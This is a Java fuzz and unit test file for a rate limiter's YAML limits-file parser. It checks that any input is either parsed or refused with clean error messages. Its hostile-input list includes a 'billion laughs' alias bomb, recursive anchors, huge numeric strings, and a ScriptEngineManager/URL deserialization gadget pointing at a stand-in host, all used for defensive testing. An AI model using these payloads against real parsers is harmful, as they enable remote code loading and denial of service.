package dev.weir.limiter.file;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.junit.FuzzTest;
import dev.weir.fuzzing.Choices;
import dev.weir.fuzzing.Mutation;
import dev.weir.fuzzing.Share;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** A limits file is read, or refused with all its mistakes. */
final class LimitsFuzzTest {

    private static final int MOST_BYTES = 65_536;
    private static final List<String> RIGHT = right();

    /** What is shipped and what the guides show. */
    private static List<String> right() {
        var files = new ArrayList<>(List.of(read("limits.yaml"), read("examples/limits.yaml")));
        for (var guide : List.of("limits-file", "identity", "holds", "steering", "outage", "upstream")) {
            Pattern.compile("```yaml\n(.*?)```", Pattern.DOTALL)
                    .matcher(read("docs/" + guide + ".md"))
                    .results()
                    .map(block -> block.group(1))
                    .forEach(files::add);
        }
        return files;
    }

    private static String read(String file) {
        try {
            return Files.readString(Path.of("..", file));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void readOrRefused(String yaml) {
        Share.of(() -> {
            try {
                assertThat(LimitsFile.parse("f", yaml).policy().plans()).isNotEmpty();
            } catch (LimitsFileRefused refused) {
                assertThat(refused.problems()).isNotEmpty();
                assertThat(refused.problems()).allSatisfy(
                        problem -> assertThat(problem.toString()).matches("f:\\d+:\\d+: [^\\p{Cntrl}]+"));
            }
        });
    }

    /** Any bytes. */
    @MethodSource("seeds")
    @FuzzTest
    void bytes(byte[] yaml) {
        if (yaml.length <= MOST_BYTES) {
            readOrRefused(new String(yaml, UTF_8));
        }
    }

    static Stream<byte[]> seeds() {
        return RIGHT.stream().map(text -> text.getBytes(UTF_8));
    }

    /** A right file that was changed here and there. */
    @FuzzTest
    void changed(byte[] choices) {
        var chosen = new Choices(choices);
        readOrRefused(Mutation.ofText(chosen.oneOf(RIGHT), chosen));
    }

    @Test
    void hundredsOfChangesOfRightFiles() {
        Share.sweep(300, this::changed);
    }

    @ParameterizedTest
    @MethodSource
    void hostile(String yaml) {
        readOrRefused(yaml.substring(0, Math.min(yaml.length(), MOST_BYTES)));
    }

    static Stream<String> hostile() {
        var laughs = new StringBuilder("a0: &a0 [lol]\n");
        for (int i = 1; i < 30; i++) {
            laughs.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ",").repeat(9)));
        }
        return Stream.of(laughs.toString(), "&a [*a]", "&a {*a : *a}", "plans: &a {p: *a}\nclients: {}",
                "<<: &a {<<: *a}", "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://192.0.2.1/']]",
                "plans: !!java.util.Date 2020-01-01\nclients: !<tag:yaml.org,2002:python/object> {}",
                "%YAML 9.9\n---\na: b", "%TAG ! tag:\n---\n!a b", "a: b\n--- \nc: d", "clients: {}\nplans: @\0",
                "plans: \u0001", "a\u0001b: c", "...", "---", "\ufeff", "\0",
                "\ud800: \udc00", "? [a]\n: {b: c}", "? {a: b}\n: c", "[".repeat(MOST_BYTES),
                "{a: ".repeat(MOST_BYTES / 4), "- ".repeat(MOST_BYTES / 2), "? ".repeat(MOST_BYTES / 2),
                "!".repeat(MOST_BYTES),
                "&".repeat(MOST_BYTES), "'".repeat(MOST_BYTES), "a".repeat(MOST_BYTES), " ".repeat(MOST_BYTES),
                "\t".repeat(MOST_BYTES), "#".repeat(MOST_BYTES), "\n".repeat(MOST_BYTES),
                "a: 1\n".repeat(MOST_BYTES / 5),
                plan("9".repeat(60_000) + " requests per minute"), plan("1e999999999 requests per minute"),
                plan("1 requests per " + "9".repeat(60_000) + " days"), plan("0.".repeat(30_000) + " usd per month"),
                plan("0." + "0".repeat(60_000) + "1 usd per month"), plan("1_".repeat(30_000) + " requests per day"),
                plan("1 request per day" + " ".repeat(60_000) + "x"), plan("\"1 request\\u0000per day\""),
                plan("\"1 request\\u2028per\\x85day\""), plan("!!int 5"), plan("!!float .inf"), plan("!!binary AAAA"),
                plan("~"),
                "clients: {}\nplans:\n" + unlike("  p%d: {limits: [1 request per day]}\n", 1_500),
                "clients: {}\nplans: {p: {limits: [" + "1 request per day, ".repeat(3_000) + "]}}",
                "clients: {blocked: [" + unlike("c%d, ", 8_000) + "]}\nplans: {p: {limits: [1 request per day]}}",
                "clients: {}\nplans: {p: {limits: [1 request per day]}}\nstages:\n"
                        + unlike("  s%d: {instances: 1}\n", 2_000),
                "clients: {}\nplans: {p: {limits: [1 request per day]}}\nroutes: {"
                        + unlike("GET /a%d: {cost: {credits: 1}}, ", 1_500) + "}");
    }

    private static String plan(String limit) {
        return "clients: {}\nplans:\n  p:\n    limits:\n      - " + limit + "\n";
    }

    private static String unlike(String form, int count) {
        return Stream.iterate(0, i -> i + 1)
                .limit(count)
                .map(form::formatted)
                .reduce(new StringBuilder(),
                        StringBuilder::append, StringBuilder::append)
                .toString();
    }
}
